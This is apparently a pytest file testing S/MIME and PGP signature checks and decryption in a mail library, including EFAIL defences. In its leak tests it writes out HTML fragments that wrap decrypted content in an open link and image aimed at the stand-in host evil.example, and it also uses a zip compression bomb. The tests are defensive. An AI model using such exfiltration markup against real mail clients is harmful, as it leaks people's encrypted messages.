"""Signed and encrypted mails: who signed them, what they hold, and that nothing of them leaves the house."""

from datetime import timedelta
from pathlib import Path

import pytest

from hauspost.ground.mail import _limited
from hauspost.ground.mail.letter import nested_letter, read_letter
from hauspost.ground.mail.sealed import Opened, Trust, open_letter, signature_as_dict
from hauspost.ground.mail.sealed_words import REASONS, reason_in_words, signature_in_words

from .signing import (
    HTML,
    NOW,
    WORDS,
    Post,
    mail,
    part,
    pgp_encrypted,
    pgp_signed,
    smime_encrypted,
    smime_signed,
    together,
)


class TestSignedBySmime:
    def test_a_good_signature_names_its_signer(self, post: Post):
        """P22.5"""
        opened = open_letter(mail(smime_signed(post)), trust=post.trust)
        found = opened.signature
        assert found
        assert (found.kind, found.state, found.signer_name, found.signer_address) == (
            "smime",
            "valid",
            "Ada Brand",
            "ada@example.org",
        )
        assert (found.matches_sender, found.issuer, found.covers_all, found.reason) == (True, "Firma CA", True, "")
        assert found.not_after and found.not_after > NOW
        assert opened.letter.text == "Der Zugangscode lautet 4711."
        assert signature_as_dict(found)["not_after"] == found.not_after.isoformat()
        assert signature_in_words(found.state, found.signer_address) == "Signed by ada@example.org"

    def test_line_ends_that_the_way_changed_do_not_break_it(self, post: Post):
        found = open_letter(mail(smime_signed(post)).replace(b"\r\n", b"\n"), trust=post.trust).signature
        assert found and found.state == "valid"

    def test_a_changed_word_is_found(self, post: Post):
        found = open_letter(mail(smime_signed(post)).replace(b"4711", b"0815"), trust=post.trust).signature
        assert found and (found.state, found.reason) == ("broken", "changed")

    def test_a_good_signature_of_somebody_else_is_shown_as_such(self, post: Post):
        opened = open_letter(mail(smime_signed(post), sender=b"chef@example.org"), trust=post.trust)
        assert opened.signature and (opened.signature.state, opened.signature.matches_sender) == ("valid", False)

    def test_one_of_two_senders_is_none(self, post: Post):
        raw = mail(smime_signed(post)).replace(b"From: ", b"From: chef@example.org, ")
        found = open_letter(raw, trust=post.trust).signature
        assert found and not found.matches_sender

    @pytest.mark.parametrize(("who", "reason"), [("alone", "unknown_issuer"), ("old", "expired")])
    def test_whom_nobody_vouches_for_is_not_trusted(self, post: Post, who: str, reason: str):
        found = open_letter(mail(smime_signed(post, who=who)), trust=post.trust).signature
        assert found and (found.state, found.reason, found.signer_address) == ("untrusted", reason, "ada@example.org")

    def test_a_certificate_counts_when_the_mail_came(self, post: Post):
        found = open_letter(
            mail(smime_signed(post, who="old")), trust=post.trust, at=NOW - timedelta(days=20)
        ).signature
        assert found and found.state == "valid"

    def test_a_folder_of_anchors_is_trusted_and_the_systems_store_otherwise(self, post: Post, tmp_path: Path):
        (tmp_path / "firma.crt").write_bytes((post.folder / "ca.pem").read_bytes())
        (tmp_path / "README").write_text("nothing")
        raw = mail(smime_signed(post))
        states = [
            open_letter(raw, trust=trust).signature for trust in (Trust(tmp_path), Trust(), Trust(tmp_path / "none"))
        ]
        assert [one.state for one in states if one] == ["valid", "untrusted", "untrusted"]

    def test_words_beside_what_was_signed_are_not_signed(self, post: Post):
        """A list's footer, or somebody's lie above a colleague's signed words."""
        above = b"Content-Type: text/plain\r\n\r\nBitte sofort zahlen."
        signed = smime_signed(post).replace(b"boundary=b", b"boundary=c").replace(b"--b", b"--c")
        found = open_letter(mail(together(b"mixed", above, signed)), trust=post.trust).signature
        assert found and (found.state, found.covers_all) == ("valid", False)
        third = smime_signed(post).replace(b"\r\n--b--", b"\r\n--b\r\n\r\nUnsigniert\r\n--b--")
        found = open_letter(mail(third), trust=post.trust).signature
        assert found and not found.covers_all

    def test_an_opaque_signature_shows_what_openssl_saw(self, post: Post):
        signed = post.smime_signature(HTML, "-nodetach")
        opened = open_letter(
            mail(part(b"application/pkcs7-mime; smime-type=signed-data; name=smime.p7m", signed)), trust=post.trust
        )
        assert opened.signature and opened.signature.state == "valid"
        assert opened.letter.html == "<p>Geheim ist <b>4711</b>.</p>\n"
        assert opened.letter.subject == "Zugang"
        by_name = open_letter(mail(part(b"application/octet-stream; name=smime.p7m", signed)), trust=post.trust)
        assert by_name.signature and by_name.signature.state == "valid"

    def test_junk_in_place_of_a_signature_is_said(self, post: Post):
        raw = mail(together(b"signed", WORDS, part(b"application/pkcs7-signature", b"no signature at all")))
        found = open_letter(raw, trust=post.trust).signature
        assert found and (found.state, found.reason) == ("cannot_check", "damaged")


class TestSignedByPgp:
    def test_a_good_signature_names_its_signer(self, post: Post):
        """P22.5"""
        found = open_letter(mail(pgp_signed(post)), trust=post.trust).signature
        assert found
        assert (found.kind, found.state, found.signer_name, found.signer_address) == (
            "pgp",
            "valid",
            "Ada Brand",
            "ada@example.org",
        )
        assert found.matches_sender and len(found.fingerprint) == 40 and found.not_after

    def test_a_changed_word_is_found(self, post: Post):
        found = open_letter(mail(pgp_signed(post)).replace(b"4711", b"0815"), trust=post.trust).signature
        assert found and (found.state, found.reason) == ("broken", "changed")

    def test_an_unknown_key_is_said(self, post: Post):
        found = open_letter(mail(pgp_signed(post)), trust=Trust()).signature
        assert found and (found.state, found.matches_sender) == ("unknown_key", False)

    def test_a_text_signed_in_itself(self, post: Post):
        text = post.pgp("Grüße, 4711.\n".encode(), "--clear-sign")
        head = b"Content-Type: text/plain; charset=utf-8\r\n\r\n"
        opened = open_letter(mail(head + text), trust=post.trust)
        assert opened.signature and (opened.signature.state, opened.signature.covers_all) == ("valid", True)
        assert opened.letter.text == "Grüße, 4711."
        partly = open_letter(mail(head + b"Bitte zahlen.\n\n" + text), trust=post.trust)
        assert partly.signature and not partly.signature.covers_all
        assert partly.letter.text.startswith("Bitte zahlen.")


class TestEncrypted:
    @pytest.mark.parametrize("cipher", ["-aes256", "-aes-256-gcm", "-des3"])
    def test_smime_opens_with_the_mailboxes_key(self, post: Post, cipher: str):
        """P22.5: enveloped and, where openssl can, authenticated enveloped data."""
        opened = open_letter(mail(smime_encrypted(post, cipher=cipher)), [post.pgp_key, post.smime_key])
        assert (opened.letter.text, opened.decrypted, opened.note) == ("Der Zugangscode lautet 4711.", "smime", "")
        assert (opened.letter.subject, opened.letter.sender and opened.letter.sender.address) == (
            "Zugang",
            "ada@example.org",
        )
        assert not opened.letter.has_encrypted

    def test_a_signature_inside_is_checked(self, post: Post):
        opened = open_letter(mail(smime_encrypted(post, smime_signed(post))), [post.smime_key], post.trust)
        assert opened.signature and (opened.signature.state, opened.decrypted) == ("valid", "smime")
        assert opened.letter.text == "Der Zugangscode lautet 4711."
        opaque = part(b"application/pkcs7-mime; smime-type=signed-data", post.smime_signature(WORDS, "-nodetach"))
        opened = open_letter(mail(smime_encrypted(post, opaque)), [post.smime_key], post.trust)
        assert opened.signature and (opened.signature.state, opened.letter.text) == (
            "valid",
            "Der Zugangscode lautet 4711.",
        )

    @pytest.mark.parametrize("kind", [b"encrypted", b"mixed"])
    def test_pgp_opens_with_the_mailboxes_key(self, post: Post, kind: bytes):
        """P22.5: PGP/MIME, also as some Exchange servers leave it."""
        opened = open_letter(mail(pgp_encrypted(post, WORDS, "--sign", kind=kind)), [post.pgp_key], post.trust)
        assert (opened.letter.text, opened.decrypted, opened.note) == ("Der Zugangscode lautet 4711.", "pgp", "")
        assert opened.signature and (opened.signature.state, opened.signature.matches_sender) == ("valid", True)

    def test_pgp_within_a_text_keeps_the_files_beside_it(self, post: Post):
        text = b"Content-Type: text/plain\r\n\r\n" + post.pgp(
            "Grüße, 4711.".encode(), "--recipient", "box@example.org", "--encrypt"
        )
        raw = mail(together(b"mixed", text, b"Content-Type: text/csv; name=a.csv\r\n\r\n1;2"))
        opened = open_letter(raw, [post.pgp_key])
        assert (opened.letter.text, opened.decrypted) == ("Grüße, 4711.", "pgp")
        assert [file.name for file in opened.letter.attachments] == ["a.csv"]

    def test_without_the_key_there_is_a_note_and_the_file(self, post: Post):
        """P22.5"""
        for raw in (mail(smime_encrypted(post)), mail(pgp_encrypted(post))):
            opened = open_letter(raw)
            assert (opened.note, opened.decrypted, opened.letter.has_encrypted) == ("no_key", "", True)
            assert opened.letter.attachments
            assert "keys opens it" in reason_in_words(opened.note)

    def test_a_subject_that_was_protected_is_the_subject(self, post: Post):
        inner = b'Content-Type: text/plain; protected-headers="v1"\r\nSubject: =?utf-8?q?K=C3=BCndigung?=\r\nFrom: chef@example.org\r\n\r\nx'
        raw = mail(pgp_encrypted(post, inner)).replace(b"Zugang", b"...")
        letter = open_letter(raw, [post.pgp_key]).letter
        assert (letter.subject, letter.from_[0].address) == ("Kündigung", "ada@example.org")
        wrapped = b"Content-Type: message/rfc822\r\n\r\nSubject: Gehalt\r\n\r\nMehr."
        letter = open_letter(mail(smime_encrypted(post, wrapped)), [post.smime_key]).letter
        assert (letter.subject, letter.text) == ("Gehalt", "Mehr.")

    def test_damaged_envelopes_stay_closed(self, post: Post):
        """What comes out before the fault is not shown: it may be an attacker's (EFAIL)."""
        for raw, key in (
            (mail(smime_encrypted(post, cipher="-aes-256-gcm")), post.smime_key),
            (mail(pgp_encrypted(post)), post.pgp_key),
        ):
            lines = raw.split(b"\n")
            at = len(lines) - 8
            lines[at] = lines[at][:10] + (b"AAAA" if lines[at][10:14] != b"AAAA" else b"BBBB") + lines[at][14:]
            opened = open_letter(b"\n".join(lines), [key])
            assert (opened.decrypted, opened.note, "4711" in opened.letter.text) == ("", "damaged", False)


class TestNothingLeaks:
    def test_an_encrypted_part_is_never_joined_with_html_around_it(self, post: Post):
        """EFAIL's direct exfiltration: the stranger's open attribute must not swallow what only we can read."""
        before = b'Content-Type: text/html\r\n\r\n<a href="https://evil.example/?'
        after = b'Content-Type: text/html\r\n\r\n">Klick</a><img src="https://evil.example/x">'
        opened = open_letter(mail(together(b"mixed", before, smime_encrypted(post, HTML), after)), [post.smime_key])
        shown = opened.letter.html + opened.letter.visible_html + opened.letter.text + opened.letter.quoted_html
        assert "4711" not in shown
        assert (opened.decrypted, opened.note) == ("smime", "partly")
        alone = nested_letter(opened.letter.attachments[-1])
        assert alone and alone.html == "<p>Geheim ist <b>4711</b>.</p>\n"
        assert opened.letter.attachments[-1].name == "decrypted.eml"

    def test_what_was_decrypted_loads_nothing(self, post: Post):
        """S3: its HTML is as hostile as any other."""
        html = b'Content-Type: text/html\r\n\r\n<p>4711</p><img src="https://evil.example/t.png"><script>x()</script>'
        letter = open_letter(mail(smime_encrypted(post, html)), [post.smime_key]).letter
        assert "4711" in letter.html
        assert "evil.example/t" not in letter.html and "script" not in letter.html

    def test_pgp_amid_other_words_is_not_quoted_with_them(self, post: Post):
        message = post.pgp(b"4711", "--recipient", "box@example.org", "--encrypt")
        raw = mail(b"Content-Type: text/plain\r\n\r\nBitte antworten.\n\n" + message)
        opened = open_letter(raw, [post.pgp_key])
        assert "4711" not in opened.letter.text
        alone = nested_letter(opened.letter.attachments[-1])
        assert alone and (alone.text, opened.note) == ("4711", "partly")


class TestLimits:
    def test_a_missing_program_is_said(self, post: Post, monkeypatch: pytest.MonkeyPatch):
        """P54: the cause and the next step, no traceback."""
        smime, pgp, signed = mail(smime_encrypted(post)), mail(pgp_encrypted(post)), mail(pgp_signed(post))
        keys = [post.smime_key, post.pgp_key]
        monkeypatch.setenv("PATH", "/nowhere")
        assert [open_letter(raw, keys).note for raw in (smime, pgp)] == ["no_openssl", "no_gpg"]
        found = open_letter(signed, keys).signature
        assert found and (found.state, found.reason) == ("cannot_check", "no_gpg")
        assert reason_in_words("no_gpg").startswith("Cannot be opened here: gpg is not installed.")

    def test_a_program_that_hangs_is_ended(self, post: Post, monkeypatch: pytest.MonkeyPatch, tmp_path: Path):
        """S18: killed on limit."""
        hanging = tmp_path / "openssl"
        hanging.write_text("#!/bin/sh\nexec sleep 1000\n")
        hanging.chmod(0o700)
        raw = mail(smime_encrypted(post))
        key = post.smime_key
        monkeypatch.setenv("PATH", f"{tmp_path}:/usr/bin:/bin")
        monkeypatch.setattr(_limited, "_SECONDS", 0.1)
        assert open_letter(raw, [key]).note == "over_limit"

    def test_a_bomb_inside_stays_closed(self, post: Post, monkeypatch: pytest.MonkeyPatch):
        """S18: what was packed small may not come out big."""
        from hauspost.ground.mail import _pgp

        raw = mail(pgp_encrypted(post, WORDS + b"0" * 5_000_000, "--compress-algo", "zip"))
        assert len(raw) < 100_000
        monkeypatch.setattr(_pgp, "MOST_OUTPUT", 1_000_000)
        opened = open_letter(raw, [post.pgp_key])
        assert (opened.decrypted, bool(opened.note)) == ("", True)

    def test_no_key_stays_behind(self, post: Post, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
        """S21"""
        raw, key = mail(pgp_encrypted(post)), post.pgp_key
        monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
        assert open_letter(raw, [key]).decrypted == "pgp"
        assert list(tmp_path.iterdir()) == []

    def test_an_ordinary_mail_costs_nothing_more(self, monkeypatch: pytest.MonkeyPatch):
        monkeypatch.setenv("PATH", "/nowhere")
        opened = open_letter(mail(WORDS))
        assert opened == Opened(read_letter(mail(WORDS)))


def test_every_reason_has_words():
    assert all(str(words).endswith(".") for words in REASONS.values())
